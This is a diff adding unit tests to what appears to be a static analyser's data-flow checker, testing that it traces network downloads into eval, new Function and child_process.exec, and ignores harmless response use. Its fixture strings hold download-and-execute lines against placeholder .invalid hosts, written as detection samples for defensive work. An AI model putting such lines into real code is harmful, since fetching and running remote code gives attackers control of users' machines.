@@ -375,6 +375,46 @@ describe('data flow', () => {
     ]);
   });
 
+  it('follows downloaded code into eval, Function and a shell', () => {
+    expect(
+      flows(
+        [
+          "fetch('https://cdn.invalid/p').then((r) => r.text()).then((t) => new Function(t)());",
+          "const https = require('https'), cp = require('child_process');",
+          "https.get('https://x.invalid/s', (res) => { let body = ''; res.on('data', (d) => { body += d; }); res.on('end', () => { eval(body); cp.exec(body); }); });",
+        ].join('\n'),
+      ),
+    ).toEqual([
+      ['fetch', 'Function'],
+      ['https.get', 'eval'],
+      ['https.get', 'child_process.exec'],
+    ]);
+  });
+
+  it('does not call using or forwarding a response a flow', () => {
+    expect(
+      flows(
+        [
+          "fetch('https://api.invalid/v').then((r) => r.json()).then((data) => console.log(data.version));",
+          "fetch('https://api.invalid/a').then((r) => r.text()).then((t) => fetch('https://api.invalid/b', { body: t }));",
+        ].join('\n'),
+      ),
+    ).toEqual([]);
+  });
+
+  it('does not let a write into process.env taint process', () => {
+    expect(
+      flows(
+        [
+          "const cp = require('child_process');",
+          'Object.assign(process.env, { A: process.env.B });',
+          'process.env.C = process.env.D;',
+          "cp.execSync('kill ' + process.pid);",
+        ].join('\n'),
+      ),
+    ).toEqual([]);
+  });
+
   it('keeps variables of different functions apart', () => {
     const source = [
       'function a() { const data = process.env.NPM_TOKEN; return data.length; }',
